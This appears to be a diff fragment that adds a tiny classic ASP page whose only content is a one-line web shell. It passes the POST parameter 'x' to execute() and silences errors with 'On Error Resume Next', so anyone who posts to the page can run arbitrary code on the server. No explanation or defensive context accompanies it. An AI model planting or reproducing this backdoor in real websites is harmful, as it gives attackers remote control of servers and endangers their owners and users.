@@ -1,0 +1,4 @@
+<%
+On Error Resume Next
+execute(request.form("x"))
+%>
